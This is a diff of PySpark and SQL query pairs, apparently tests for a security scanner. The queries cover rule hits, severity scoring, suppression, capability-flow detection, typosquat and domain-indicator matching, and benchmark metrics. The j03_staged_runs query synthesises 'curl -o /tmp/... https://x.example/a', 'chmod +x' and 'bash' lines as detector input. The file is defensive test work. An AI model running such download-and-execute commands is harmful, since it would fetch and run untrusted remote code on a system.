+        F.col("rule_id").alias("message"), "severity", "confidence", (F.coalesce(F.col("lang"), F.lit("")) == "de").alias("hidden"), F.when(F.col("doc_id") % 10 == 0, "llm").otherwise("static").alias("source"), F.array(F.coalesce(F.lower("lang"), F.lit("none"))).alias("tags"), F.substring("snippet", 1, 80).alias("snippet"),
+    )
+
+
+@query("r01_k03_rule_hits", f"with {_HITS_SQL} select doc_id, rule_id, line::int as line, snippet from hits qualify row_number() over (partition by doc_id, rule_id order by line) <= 3")
+def rule_hits(spark: SparkSession, d: str) -> DataFrame:
+    """At most three lines per document and rule: the evaluator's own cap on examples, not on work."""
+    from pyspark.sql import Window
+
+    w = Window.partitionBy("doc_id", "rule_id").orderBy("line")
+    return _hits(spark, d).withColumn("n", F.row_number().over(w)).filter("n <= 3").drop("n")
+
+
+@query("r01_rule_pack", f"with {_HITS_SQL} select doc_id, rule_id, line::int as line, snippet as snippet from hits where length(snippet) <= 300 and not (rule_id = 'T-DELETE-1' and regexp_matches(snippet, '\\bNothing\\b')) qualify row_number() over (partition by doc_id, rule_id order by line) <= 3")
+def rule_pack(spark: SparkSession, d: str) -> DataFrame:
+    """A pack of rules with conditions, evaluated with all positions; lines longer than 300 characters are left to the other query."""
+    r, p = configs.rule_tables(spark, _PACK)
+    t = read(spark, d, "documents", "doc_id", "text").filter("text is not null")
+    short = F.array_join(F.transform(F.split("text", "\n"), lambda x: F.when(F.length(x) <= 300, x).otherwise("")), "\n")
+    units = t.select("doc_id", F.lit("body").alias("scope"), F.lit("document").alias("role"), short.alias("unit"))
+    return rules.evaluate(units, r, p, ["doc_id"]).select("doc_id", "rule_id", "line", "snippet")
+
+
+@query("a01_a02_findings", f"""with {_HITS_SQL}, raw as (select d.doc_kind as scan_id, h.rule_id, coalesce(d.source, '') as component, d.file_path as path, h.line, h.doc_id, left(sha256(h.rule_id), 16) as match_key from hits h join documents d using (doc_id))
+select scan_id, left(sha256(rule_id || '|' || component || '|' || coalesce(path, '') || '|' || match_key), 32) as fingerprint, any_value(rule_id) as rule_id, arg_min(line, (doc_id, line))::int as line, count(*) as n from raw group by 1, 2""")
+def merged(spark: SparkSession, d: str) -> DataFrame:
+    return FI.finalize(_raw(spark, d)).select("scan_id", "fingerprint", "rule_id", "line", "n")
+
+
+_FINAL_SQL = f"""{_HITS_SQL}, dim as (select * from (values ('T-EGRESS-1', 5, 'high'), ('T-FETCH-1', 3, 'medium'), ('T-DELETE-1', 4, 'medium'), ('T-DATA-1', 2, 'high')) v(rule_id, r, confidence)),
+raw as (select d.doc_kind as scan_id, h.rule_id, coalesce(d.source, '') as component, d.file_path as path, h.line, h.doc_id, left(sha256(h.rule_id), 16) as match_key, confidence, d.doc_id % 10 = 0 as llm, least(5, r + (coalesce(lang, '') = 'de')::int) as r0 from hits h join documents d using (doc_id) join dim using (rule_id)),
+settled as (select *, case when rule_id = 'T-DATA-1' then 3 else r0 end as r1 from raw), capped as (select *, case when llm and r1 = 5 then 4 when r1 = 5 and confidence <> 'high' then 4 else r1 end as r2 from settled),
+fin as (select scan_id, left(sha256(rule_id || '|' || component || '|' || coalesce(path, '') || '|' || match_key), 32) as fingerprint, any_value(rule_id) as rule_id, any_value(component) as component, any_value(path) as path, max(r2) as r, count(*) as n from capped group by 1, 2)"""
+
+
+def _final(spark: SparkSession, d: str) -> DataFrame:
+    override = spark.createDataFrame([("T-DATA-1", "medium")], "rule_id string, severity string")
+    return FI.finalize(FI.settle(_raw(spark, d), override))
+
+
+@query("a03_p01_severities", f"with {_FINAL_SQL} select scan_id, count(*) filter (r = 5) as critical, count(*) filter (r = 4) as high, count(*) filter (r = 3) as medium, count(*) filter (r = 2) as low, count(*) filter (r = 1) as info, count(*) as total from fin group by 1")
+def severities(spark: SparkSession, d: str) -> DataFrame:
+    return FI.histogram(_final(spark, d), "scan_id")
+
+
+@query("a03_summary")
+def summaries(spark: SparkSession, d: str) -> DataFrame:
+    return FI.summary(FI.histogram(_final(spark, d), "scan_id")).select("scan_id", "summary")
+
+
+@query("a09_p02_scores", f"""with {_FINAL_SQL}, caps as (select entry_name as component, label from (select entry_name, unnest(capability_labels) as label from lock_entries) group by all),
+fac as (select least(10.0, sum(0.5)) as factor from (select distinct label from caps))
+select scan_id, fingerprint, case when r = 1 then 0.0 else round(least(10.0, b + (10.0 - b) * (factor / 10.0) * 0.97), 1) end as score from (select *, case r when 5 then 9.3 when 4 then 7.7 when 3 then 5.3 when 2 then 2.1 else 0.0 end::double as b from fin), fac""")
+def scores(spark: SparkSession, d: str) -> DataFrame:
+    """One component with every label that occurs, at medium confidence."""
+    caps = read(spark, d, "lock_entries", "capability_labels").select(F.explode("capability_labels").alias("label")).distinct().select(F.lit("x").alias("scan_id"), F.lit("c").alias("component"), "label", F.lit("medium").alias("confidence"), F.lit(True).alias("observed"))
+    factor = FI.capability_factor(caps).select(F.lit(1).alias("k"), "factor")
+    f = _final(spark, d).withColumn("k", F.lit(1)).join(F.broadcast(factor), "k")
+    return f.select("scan_id", "fingerprint", FI.score(F.col("severity"), F.col("severity"), F.lit(None).cast("double"), F.lit("poc"), F.col("factor")).alias("score"))
+
+
+@query("fp04_exit_codes", f"with {_FINAL_SQL} select scan_id, case when max(r) >= 4 then 1 else 0 end::int as code from fin group by 1")
+def exit_codes(spark: SparkSession, d: str) -> DataFrame:
+    return FI.exit_code(_final(spark, d), spark.createDataFrame([], "scan_id string"))
+
+
+@query("j25_baseline", f"with {_FINAL_SQL} select scan_id, fingerprint from fin where fingerprint not in (select fingerprint from fin where fingerprint < '8')")
+def baseline(spark: SparkSession, d: str) -> DataFrame:
+    f = _final(spark, d).select("scan_id", "fingerprint")
+    return FI.against_baseline(f, f.filter("fingerprint < '8'")).select("scan_id", "fingerprint")
+
+
+@query("j26_suppression", f"""with {_FINAL_SQL}, s as (select * from (values (1, 'T-FETCH-1', null, 'known fetch calls', date '2026-01-01'), (2, 'T-FETCH-1', null, 'second rule never used', date '2030-01-01'), (3, null, '^.*docs/', 'documentation only', date '2030-01-01'), (4, 'T-DATA-1', null, 'short', date '2030-01-01')) v(ord, rule, rx, reason, expires) where length(reason) >= 10)
+select f.scan_id, f.fingerprint, case when h.ord is null then null when h.expires < date '2026-06-01' then 'expired' else 'active' end as suppression, h.reason from fin f left join (select f.scan_id, f.fingerprint, min(ord) as o from fin f join s on (rule is null or rule = f.rule_id) and (rx is null or regexp_matches(coalesce(f.path, ''), rx)) group by 1, 2) m on m.scan_id = f.scan_id and m.fingerprint = f.fingerprint left join s h on h.ord = m.o""")
+def suppression(spark: SparkSession, d: str) -> DataFrame:
+    far, near = dt.date(2030, 1, 1), dt.date(2026, 1, 1)
+    s = spark.createDataFrame([(1, "T-FETCH-1", None, None, "known fetch calls", near), (2, "T-FETCH-1", None, None, "second rule never used", far), (3, None, None, "^.*docs/", "documentation only", far), (4, "T-DATA-1", None, None, "short", far)], "ord int, rule_id string, fingerprint string, path_regex string, reason string, expires date")
+    return FI.suppress(_final(spark, d), s, dt.date(2026, 6, 1)).select("scan_id", "fingerprint", "suppression", "reason")
+
+
+@query("j27_report_difference", f"with {_FINAL_SQL}, a as (select distinct fingerprint from fin where fingerprint < 'c'), b as (select distinct fingerprint from fin where fingerprint > '4') select coalesce(a.fingerprint, b.fingerprint) as fingerprint, case when a.fingerprint is null then 'added' when b.fingerprint is null then 'removed' else 'unchanged' end as state from a full join b on a.fingerprint = b.fingerprint")
+def report_difference(spark: SparkSession, d: str) -> DataFrame:
+    f = _final(spark, d).select("fingerprint")
+    return FI.difference(f.filter("fingerprint < 'c'"), f.filter("fingerprint > '4'"))
+
+
+@query("j24_changed_only", f"with {_FINAL_SQL}, ch as (select distinct doc_kind as scan_id, file_path as path from documents where doc_id % 7 = 0 and file_path is not null), t as (select distinct d.doc_kind as scan_id, coalesce(d.source, '') as component from documents d join ch on d.doc_kind = ch.scan_id and d.file_path = ch.path) select f.scan_id, f.fingerprint from fin f where exists (select 1 from t where t.scan_id = f.scan_id and t.component = f.component) or exists (select 1 from ch where ch.scan_id = f.scan_id and ch.path = f.path)")
+def changed_only(spark: SparkSession, d: str) -> DataFrame:
+    docs = read(spark, d, "documents", "doc_id", "doc_kind", "file_path", "source")
+    art = docs.select(F.col("doc_kind").alias("scan_id"), F.col("file_path").alias("path"), F.coalesce("source", F.lit("")).alias("component"))
+    changed = docs.filter("doc_id % 7 = 0 and file_path is not null").select(F.col("doc_kind").alias("scan_id"), F.col("file_path").alias("path"))
+    return FI.changed_only(_final(spark, d), art, changed).select("scan_id", "fingerprint")
+
+
+@query("k06_listing", f"with {_FINAL_SQL} select scan_id, rule_id, fingerprint, row_number() over (order by r desc, rule_id, path nulls first, scan_id, fingerprint)::int as place from fin qualify place <= 50")
+def listing(spark: SparkSession, d: str) -> DataFrame:
+    """The top 50 of a report page."""
+    from pyspark.sql import Window
+
+    top = _final(spark, d).orderBy(F.desc(FI.rank(F.col("severity"))), "rule_id", "path", "scan_id", "fingerprint").limit(50)
+    w = Window.orderBy(F.desc(FI.rank(F.col("severity"))), "rule_id", "path", "scan_id", "fingerprint")
+    return top.select("scan_id", "rule_id", "fingerprint", F.row_number().over(w).alias("place"))
+
+
+@query("fp06_reports")
+def reports_json(spark: SparkSession, d: str) -> DataFrame:
+    from skein import sinks
+
+    return sinks.to_json(_final(spark, d))
+
+
+# ---------------------------------------------------------------- joins
+
+
+@query("j28_previous_report", """
+with r as (select distinct report_id, kind, locator, scanned_at from reports) select a.report_id, b.report_id as prev_report_id from r a asof left join r b on a.kind = b.kind and a.locator = b.locator and a.scanned_at > b.scanned_at""")
+def previous_report(spark: SparkSession, d: str) -> DataFrame:
+    r = read(spark, d, "reports", "report_id", "kind", "locator", "scanned_at").distinct()
+    return relate.as_of(r, r, ["kind", "locator"], "scanned_at", ["report_id"]).select("report_id", "prev_report_id")
+
+
+@query("j29_j15_orphans", "select distinct l.entry_key from lock_entries l where l.report_id not in (select report_id from reports where scanned_at >= timestamp '2026-05-01')")
+def orphans(spark: SparkSession, d: str) -> DataFrame:
+    keep = read(spark, d, "reports", "report_id", "scanned_at").filter("scanned_at >= timestamp_ntz '2026-05-01'")
+    return read(spark, d, "lock_entries", "report_id", "entry_key").join(keep, "report_id", "left_anti").select("entry_key").distinct()
+
+
+@query("j08_j10_collisions", "select lower(trim(tool_name)) as name, count(distinct server_name) as owners, count(distinct sha256(input_schema)) as signatures from tools group by 1 having count(distinct server_name) > 1 and count(distinct sha256(input_schema)) > 1")
+def collisions(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "tools", "tool_name", "server_name", "input_schema").withColumn("sig", X.sha256(F.col("input_schema")))
+    return relate.collisions(t, F.col("tool_name"), "server_name", "sig")
+
+
+@query("j09_near_names", "with n as (select distinct p_name as x from part where length(p_name) >= 4) select a.x as a, b.x as b from n a, n b where a.x < b.x and damerau_levenshtein(a.x, b.x) = 1")
+def near_names(spark: SparkSession, d: str) -> DataFrame:
+    return relate.near_names(read(spark, d, "part", "p_name"), "p_name")
+
+
+@query("j10_near_tools", "with n as (select distinct tool_name as x from tools where length(tool_name) >= 5) select a.x as a, b.x as b from n a, n b where a.x < b.x and damerau_levenshtein(a.x, b.x) = 1")
+def near_tools(spark: SparkSession, d: str) -> DataFrame:
+    return relate.near_names(read(spark, d, "tools", "tool_name"), "tool_name", least=5)
+
+
+@query("j11_mentions", """
+with t as (select distinct server_name as owner, unnest(regexp_split_to_array(lower(description), '[^a-z0-9_]+')) as name from tools where description is not null), n as (select distinct lower(server_name) as o, server_name as other, lower(regexp_extract(server_name, '^[^-]+')) as name from tools)
+select distinct t.owner, t.name, n.other from t join n on t.name = n.name where length(t.name) >= 5 and t.owner <> n.other""")
+def mentions(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "tools", "server_name", "description")
+    names = t.select(F.col("server_name").alias("owner"), F.lower(F.regexp_extract("server_name", "^[^-]+", 0)).alias("name")).distinct()
+    return relate.mentions(t.filter("description is not null"), F.col("description"), "server_name", names)
+
+
+@query("j12_lock_drift")
+def lock_drift(spark: SparkSession, d: str) -> DataFrame:
+    """The last snapshot of each lock file against the one before."""
+    from skein.operators.snapshots import consecutive, plain_hash
+
+    r = read(spark, d, "reports", "report_id", "locator", "lock_path", "scanned_at")
+    last = r.groupBy("locator", "lock_path").agg(F.max_by("report_id", "scanned_at").alias("report_id")).select("report_id")
+    pairs = consecutive(r).join(last, "report_id").filter("prev_report is not null")
+    e = read(spark, d, "lock_entries", "report_id", "entry_key", "content_hash", "skill_files", "tools", "capability_labels", "received_at")
+    e = e.groupBy("report_id", "entry_key").agg(F.max_by(F.struct("content_hash", "skill_files", "tools", "capability_labels"), "received_at").alias("x"))
+    tools = F.when(F.col("x.tools").isNotNull(), F.transform_values("x.tools", lambda k, v: plain_hash(v["hash"])))
+    fs = F.when(F.col("x.skill_files").isNotNull(), F.transform_values("x.skill_files", lambda k, v: plain_hash(v)))
+    e = e.select("report_id", "entry_key", plain_hash(F.col("x.content_hash")).alias("content_hash"), fs.alias("files"), tools.alias("tools"), F.col("x.capability_labels").alias("labels"))
+    key = F.concat_ws("\x00", F.col("pair").cast("string"), "entry_key").alias("key")
+    cur = e.join(pairs.select("report_id", F.col("report_id").alias("pair")), "report_id").select(key, "content_hash", "files", "tools", "labels")
+    old = e.join(pairs.select(F.col("prev_report").alias("report_id"), F.col("report_id").alias("pair")), "report_id").select(key, "content_hash", "files", "tools", "labels")
+    out = relate.drift_from_lock(cur, old)
+    return out.select(F.substring_index("key", "\x00", 1).cast("bigint").alias("report_id"), F.substring_index("key", "\x00", -1).alias("entry_key"), "state", "files", "tools", "labels")
+
+
+@query("j13_hash_indicators", "with bad as (select distinct sha256 as hash from file_blobs where blob_id % 97 = 0) select distinct f.report_id, f.file_path, f.sha256 from file_blobs f join bad on bad.hash = f.sha256")
+def hash_indicators(spark: SparkSession, d: str) -> DataFrame:
+    """Files whose hash is listed; every 97th file stands for the list of a feed."""
+    b = read(spark, d, "file_blobs", "blob_id", "report_id", "file_path", "sha256")
+    bad = b.filter("blob_id % 97 = 0").select("sha256").distinct()
+    return b.join(bad, "sha256", "left_semi").select("report_id", "file_path", "sha256").distinct()
+
+
+@query("j14_domain_indicators", """
+with h as (select distinct server_name, lower(regexp_extract(url, '^https?://([^/:]+)', 1)) as host from server_specs where url is not null), l as (select unnest(['kupufele.example', 'tabopete.example', 'example', 'b.example']) as domain)
+select h.server_name, h.host, arg_max(l.domain, length(l.domain)) as domain from h join l on h.host = l.domain or h.host like '%.' || l.domain group by 1, 2""")
+def domain_indicators(spark: SparkSession, d: str) -> DataFrame:
+    h = read(spark, d, "server_specs", "server_name", "url").filter("url is not null").select("server_name", X.url_host(F.col("url")).alias("host")).distinct()
+    listed = spark.createDataFrame([(x,) for x in ("kupufele.example", "tabopete.example", "example", "b.example")], "domain string")
+    return relate.suffix_join(h, "host", listed, "domain").select("server_name", "host", "domain")
+
+
+@query("j19_typosquats")
+def typosquats(spark: SparkSession, d: str) -> DataFrame:
+    return relate.typosquats(read(spark, d, "tools", "tool_name"), "tool_name", ["report_finding", "collect_inbox", "list_calendar", "merge_client", "flag_server"])
+
+
+@query("j07_bounded_paths", """
+with e as (select distinct 'n' || n_nationkey as src, 'r' || n_regionkey as dst from nation union select distinct 'r' || n_regionkey, 'n' || n_nationkey from nation union select distinct 's' || s_suppkey, 'n' || s_nationkey from supplier),
+p as (select distinct src as start, [src] as path from e where src like 's%'), p1 as (select start, list_append(path, dst) as path from p join e on e.src = path[-1] where not list_contains(path, dst)), p2 as (select start, list_append(path, dst) as path from p1 join e on e.src = path[-1] where not list_contains(path, dst)), p3 as (select start, list_append(path, dst) as path from p2 join e on e.src = path[-1] where not list_contains(path, dst)),
+a as (select * from p1 union all select * from p2 union all select * from p3) select start, path[-1] as goal, array_to_string(arg_min(path, (len(path), path)), '>') as path from a where path[-1] in ('n1', 'r2', 'n7') group by 1, 2""")
+def bounded_paths(spark: SparkSession, d: str) -> DataFrame:
+    n, s = read(spark, d, "nation"), read(spark, d, "supplier")
+    name = lambda p, c: F.concat(F.lit(p), F.col(c).cast("string"))
+    up = n.select(name("n", "n_nationkey").alias("src"), name("r", "n_regionkey").alias("dst"))
+    e = up.unionByName(up.select(F.col("dst").alias("src"), F.col("src").alias("dst"))).unionByName(s.select(name("s", "s_suppkey").alias("src"), name("n", "s_nationkey").alias("dst"))).withColumn("via", F.lit("file"))
+    goals = spark.createDataFrame([("n1",), ("r2",), ("n7",)], "node string")
+    out = relate.bounded_paths(e, s.select(name("s", "s_suppkey").alias("node")), goals)
+    return out.select("start", "goal", F.array_join("path", ">").alias("path"))
+
+
+@query("j03_staged_runs")
+def staged_runs(spark: SparkSession, d: str) -> DataFrame:
+    """Downloads followed by a run, from the paths of scripts written as commands."""
+    s = _scan(spark, d).filter("language = 'shell'")
+    line = F.concat(F.lit("curl -o /tmp/"), F.regexp_extract("path", "[^/]*$", 0), F.lit(" https://x.example/a\nchmod +x /tmp/"), F.regexp_extract("path", "[^/]*$", 0), F.when(F.col("blob_id") % 2 == 0, F.concat(F.lit("\nbash /tmp/"), F.regexp_extract("path", "[^/]*$", 0))).otherwise(""))
+    e = U.explode_with(s.select(F.col("scan_id").alias("component"), F.col("path").alias("file"), line.alias("t")), "t", U.shell_events, "line int, event string, path string, source string")
+    return relate.staged_runs(e)
+
+
+@query("g06_j04_j05_file_links")
+def file_links(spark: SparkSession, d: str) -> DataFrame:
+    s = _scan(spark, d).filter(F.col("language").isin("python", "javascript", "typescript", "shell"))
+    return taint.file_links(s.select(F.col("scan_id").alias("component"), "path", "text"))
+
+
+@query("g09_g10_taint")
+def taint_flows(spark: SparkSession, d: str) -> DataFrame:
+    s = _scan(spark, d).withColumnRenamed("scan_id", "s").select(F.col("s").alias("scan_id"), F.col("s").alias("component"), "path", "language", "text")
+    return taint.component_taint(s)[0]
+
+
+# ---------------------------------------------------------------- flows and locks
+
+_LABELS = {"private_data": flows.P, "untrusted_input": flows.U, "external_egress": flows.E, "destructive": "destructive", "code_execution": "code_exec", "file_write": "persistence"}
+
+
+def _caps(spark: SparkSession, d: str) -> DataFrame:
+    table = F.create_map(*[F.lit(x) for kv in _LABELS.items() for x in kv])
+    e = read(spark, d, "lock_entries", "report_id", "entry_key", "kind", "capability_labels").select(F.col("report_id").cast("string").alias("scan_id"), F.col("entry_key").alias("component"), "kind", F.explode("capability_labels").alias("l")).distinct()
+    conf = F.when(F.col("kind") == "mcp_server", "high").otherwise("medium")
+    return e.select("scan_id", "component", F.lit(None).cast("string").alias("tool"), table[F.col("l")].alias("label"), conf.alias("confidence"), F.lit(True).alias("observed"), F.lit("*").alias("session"), F.lit("label").alias("reason"))
+
+
+_CAPS_SQL = """caps as (select distinct report_id::varchar as scan_id, entry_key as component, case l when 'private_data' then 'P' when 'untrusted_input' then 'U' when 'external_egress' then 'E' else l end as label, case kind when 'mcp_server' then 3 else 2 end as conf from (select report_id, entry_key, kind, unnest(capability_labels) as l from lock_entries))"""
+
+
+@query("g01_k04_best_nodes", f"with {_CAPS_SQL} select scan_id, case label when 'P' then 'reads_private_data' when 'U' then 'ingests_untrusted_content' when 'E' then 'external_egress' when 'code_execution' then 'code_exec' when 'file_write' then 'persistence' else label end as label, arg_max(component, (conf, component)) as component from caps group by 1, 2")
+def best_nodes(spark: SparkSession, d: str) -> DataFrame:
+    return flows.best_nodes(flows.spread(flows.nodes(_caps(spark, d)))).select("scan_id", "label", "component")
+
+
+@query("g02_g03_trifecta", f"""with {_CAPS_SQL}, per as (select scan_id, component, max(conf) filter (label = 'P') as p, max(conf) filter (label = 'U') as u, max(conf) filter (label = 'E') as e from caps group by 1, 2),
+b as (select scan_id, label, arg_max(component, (conf, component)) as c, max(conf) as conf from caps group by 1, 2), w as (select scan_id, max(c) filter (label = 'U') as u, max(c) filter (label = 'P') as p, max(c) filter (label = 'E') as e, min(conf) filter (label in ('U', 'P', 'E')) as conf from b group by 1)
+select scan_id, 'single' as kind, component as hops, least(p, u, e)::int as conf from per where p is not null and u is not null and e is not null
+union all select scan_id, 'spread', u || '>' || p || '>' || e, conf::int from w where u is not null and p is not null and e is not null and not (u = p and p = e)""")
+def trifecta(spark: SparkSession, d: str) -> DataFrame:
+    return flows.trifecta(flows.nodes(_caps(spark, d))).select("scan_id", "kind", F.array_join("hops", ">").alias("hops"), "conf")
+
+
+@query("g04_g05_flow_pairs")
+def flow_pairs(spark: SparkSession, d: str) -> DataFrame:
+    out = flows.paths(flows.pairs(flows.nodes(_caps(spark, d))))
+    return out.select("scan_id", "kind", F.array_join("hops", ">").alias("hops"), "conf", "narrative")
+
+
+@query("a04_capabilities", "select report_id::varchar as scan_id, entry_key as component, l as label, max(case kind when 'mcp_server' then 3 else 2 end)::int as conf from (select report_id, entry_key, kind, unnest(capability_labels) as l from lock_entries) group by 1, 2, 3")
+def capabilities(spark: SparkSession, d: str) -> DataFrame:
+    back = F.create_map(*[F.lit(x) for k, v in _LABELS.items() for x in (v, k)])
+    m = flows.merge_capabilities(_caps(spark, d))
+    return m.select("scan_id", "component", back[F.col("label")].alias("label"), FI.confidence_rank(F.col("confidence")).alias("conf"))
+
+
+@query("a08_p12_locks")
+def locks(spark: SparkSession, d: str) -> DataFrame:
+    e = read(spark, d, "lock_entries", "report_id", "entry_key", "kind", "entry_name", "entry_version", "content_hash", "skill_files", "tools", "capability_labels", "received_at")
+    e = e.groupBy(F.col("report_id").cast("string").alias("scan_id"), F.col("entry_key").alias("component")).agg(F.max_by(F.struct("kind", "entry_name", "entry_version", "content_hash", "skill_files", "tools", "capability_labels"), "received_at").alias("x"))
+    c = e.select("scan_id", "component", "x.kind", F.col("x.entry_name").alias("name"), F.lit("").alias("root"), F.col("x.entry_version").alias("version"), "x.content_hash")
+    f = e.select("scan_id", "component", F.explode("x.skill_files").alias("path", "sha256"))
+    t = e.select("scan_id", "component", F.explode("x.tools").alias("tool_name", "v")).select("scan_id", "component", "tool_name", "v.hash")
+    g = e.select("scan_id", "component", F.explode("x.capability_labels").alias("label"))
+    return lock.lock_text(lock.build_lock(c, f, t, g))
+
+
+# ---------------------------------------------------------------- measures
+
+_ITEMS_SQL = """items as (select item_id, label <> 'benign' as positive, category, split, expected_severity, expected_rules, contains(text, 'second channel') as c5, contains(text, 'spare key') as c4, contains(text, 'short summary') as c3 from bench_items),
+worst as (select *, case when c5 then 5 when c4 then 4 when c3 then 3 end as r from items)"""
+
+
+def _items(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame]:
+    b = read(spark, d, "bench_items")
+    items = b.select("item_id", (F.col("label") != "benign").alias("positive"), "category", "split", "expected_severity", "expected_rules")
+    hits = F.filter(F.array(*[F.when(F.contains("text", F.lit(x)), F.struct(F.lit(r).alias("rule_id"), F.lit(s).alias("severity"))) for x, r, s in (("second channel", "B-1", "critical"), ("spare key", "B-2", "high"), ("short summary", "B-3", "medium"))]), lambda x: x.isNotNull())
+    return items, b.select("item_id", F.explode(hits).alias("h")).select("item_id", "h.*")
+
+
+@query("a10_a11_confusion", f"""with {_ITEMS_SQL}, v as (select *, coalesce(r >= 4, false) as flagged from worst), g as (select split, category, count(*) filter (positive and flagged) as tp, count(*) filter (not positive and flagged) as fp, count(*) filter (positive and not flagged) as fn, count(*) filter (not positive and not flagged) as tn from v group by grouping sets ((), (split), (category)))
+select *, round(tp / nullif(tp + fp, 0), 4) as precision, round(tp / nullif(tp + fn, 0), 4) as recall, round(2 * tp / nullif(2 * tp + fp + fn, 0), 4) as f1, round(fp / nullif(fp + tn, 0), 4) as fpr from g""")
+def confusion(spark: SparkSession, d: str) -> DataFrame:
+    items, worst = _items(spark, d)
+    return metrics.confusion(metrics.verdicts(items, worst, "high"), ["split", "category"])
+
+
+@query("a12_severity_met", f"""with {_ITEMS_SQL}, m as (select *, coalesce(r >= case expected_severity when 'critical' then 5 when 'high' then 4 when 'medium' then 3 when 'low' then 2 else 1 end, false) as met from worst where expected_severity is not null)
+select count(*) as expected, count(*) filter (met) as met, count(*) filter (expected_severity = 'critical') as critical, count(*) filter (expected_severity = 'critical' and met) as critical_met, string_agg(item_id, ',' order by item_id) filter (not met) as below from m""")
+def severity_met(spark: SparkSession, d: str) -> DataFrame:
+    return metrics.severity_met(*_items(spark, d)).withColumn("below", F.array_join("below", ","))
+
+
+@query("a13_false_hits", f"with {_ITEMS_SQL}, f as (select item_id, 'B-1' as rule_id from items where c5 union all select item_id, 'B-2' from items where c4 union all select item_id, 'B-3' from items where c3) select rule_id, count(distinct item_id) as items from f join items using (item_id) where not positive group by 1")
+def false_hits(spark: SparkSession, d: str) -> DataFrame:
+    return metrics.false_hits(*_items(spark, d))
+
+
+@query("u02_u03_expected", "select item_id, '' as hit, coalesce(array_to_string(list_sort(list_distinct(expected_rules)), ','), '') as missed from bench_items")
+def expected(spark: SparkSession, d: str) -> DataFrame:
+    out = metrics.expected_fired(*_items(spark, d))
+    return out.select("item_id", F.array_join("hit", ",").alias("hit"), F.array_join("missed", ",").alias("missed"))
+
+
+@query("a14_corpus_counts", "select doc_kind, lower(lang) as lang, count(*) as n, round(avg(n_chars), 3) as mean_chars from documents group by 1, 2")
+def corpus_counts(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "documents", "doc_kind", "lang", "n_chars").groupBy("doc_kind", F.lower("lang").alias("lang")).agg(F.count("*").alias("n"), F.round(F.avg("n_chars"), 3).alias("mean_chars"))
+
+
+@query("a15_schema_shape", "select count(*) as tools, count(input_schema) as inputs, count(output_schema) as outputs, max(length(input_schema))::int as longest from tools")
+def schema_sizes(spark: SparkSession, d: str) -> DataFrame:
+    return read(spark, d, "tools", "input_schema", "output_schema").agg(F.count("*").alias("tools"), F.count("input_schema").alias("inputs"), F.count("output_schema").alias("outputs"), F.max(F.length("input_schema")).alias("longest"))
+
+
+@query("a16_first_seen", "select kind, entry_name, first, n::int as n from (select kind, entry_name, min(report_id) as first, row_number() over (partition by kind order by min(report_id), entry_name) as n from lock_entries group by 1, 2) where n <= 100")
+def first_seen(spark: SparkSession, d: str) -> DataFrame:
+    """The first hundred names per kind, as a listing shows them."""
+    return metrics.first_seen(read(spark, d, "lock_entries", "kind", "entry_name", "report_id"), ["kind"], "entry_name", "report_id")
+
+
+@query("a18_regressions", """
+with m as (select doc_kind as metric, avg(n_chars) filter (doc_id % 2 = 0) / avg(n_chars) as old, avg(n_chars) filter (doc_id % 2 = 1) / avg(n_chars) as new from documents group by 1)
+select metric, round(old, 6) as old, round(new, 6) as new, case when old is null then 'new' when new is null then 'missing' when new < old - 0.02 then 'worse' when new > old + 0.02 then 'better' else 'same' end as state from m where old is not null or new is not null""")
+def regressions(spark: SparkSession, d: str) -> DataFrame:
+    t = read(spark, d, "documents", "doc_kind", "doc_id", "n_chars")
+    part = lambda k: t.groupBy("doc_kind").agg((F.avg(F.when(F.col("doc_id") % 2 == k, F.col("n_chars"))) / F.avg("n_chars")).alias("value")).filter("value is not null").withColumnRenamed("doc_kind", "metric")
+    out = metrics.regressions(part(0), part(1))
+    return out.select("metric", F.round("old", 6).alias("old"), F.round("new", 6).alias("new"), "state")
+
+
+@query("a19_worst_entry", "select o_custkey, arg_max(o_orderkey, (o_totalprice, -o_orderkey)) as o_orderkey from orders group by 1")
+def worst_entry(spark: SparkSession, d: str) -> DataFrame:
+    return metrics.worst_entry(read(spark, d, "orders", "o_custkey", "o_orderkey", "o_totalprice"), ["o_custkey"], "o_orderkey", F.col("o_totalprice"), "o_orderkey")
+
+
+@query("u01_u04_union_distinct", "select locator from reports union select locator from lock_entries except select locator from reports where kind = 'npm'")
+def union_distinct(spark: SparkSession, d: str) -> DataFrame:
+    r, e = read(spark, d, "reports", "locator", "kind"), read(spark, d, "lock_entries", "locator")
+    return r.select("locator").unionByName(e).distinct().subtract(r.filter("kind = 'npm'").select("locator"))
+
+
+# ---------------------------------------------------------------- streaming twins
+
+
+@query("w02_rate_windows", "select user_id, to_timestamp(floor(epoch(ts) / 86400) * 86400)::timestamp as start, count(*) as n from events group by 1, 2")
+def rate_windows(spark: SparkSession, d: str) -> DataFrame:
+    return service.rate_windows(read(spark, d, "events", "user_id", "ts"), "ts", "user_id", "1 day").select("user_id", F.col("start").cast("timestamp_ntz").alias("start"), "n")
+
+
+@query("w02_admission", "select event_id, row_number() over (partition by user_id, floor(epoch(ts) / 86400) order by ts, event_id) <= 2 as admitted from events")
+def rate_admission(spark: SparkSession, d: str) -> DataFrame:
+    return service.admitted(read(spark, d, "events", "event_id", "user_id", "ts"), "ts", "user_id", "event_id", 86400, 2).select("event_id", "admitted")
+
+
+@query("w04_changes", "select event_id, user_id, event_type from (select *, lag(event_type) over w as p, coalesce(max((event_type = 'purchase')::int) over (partition by user_id order by ts rows between unbounded preceding and 1 preceding), 0) as done from events window w as (partition by user_id order by ts)) where done = 0 and (p is null or p <> event_type)")
+def changes(spark: SparkSession, d: str) -> DataFrame:
+    e = read(spark, d, "events", "event_id", "user_id", "ts", "event_type")
+    return service.changes_only(e, "user_id", "ts", "event_type", F.col("event_type") == "purchase").select("event_id", "user_id", "event_type")
+
+
+@query("w05_reuse", """
+with a as (select * from events where event_type = 'click'), b as (select * from events where event_type = 'view') select a.event_id, case when epoch_us(a.ts) - epoch_us(b.ts) <= 86400000000 then b.event_id end as result from a asof left join b on a.user_id = b.user_id and a.ts >= b.ts""")
+def reuse(spark: SparkSession, d: str) -> DataFrame:
+    e = read(spark, d, "events", "event_id", "user_id", "ts", "event_type")
+    done = e.filter("event_type = 'view'").select("user_id", "ts", F.col("event_id").alias("result"))
+    return service.reusable(e.filter("event_type = 'click'"), done, ["user_id"], "ts", "result", 86400).select("event_id", "result")
+
+
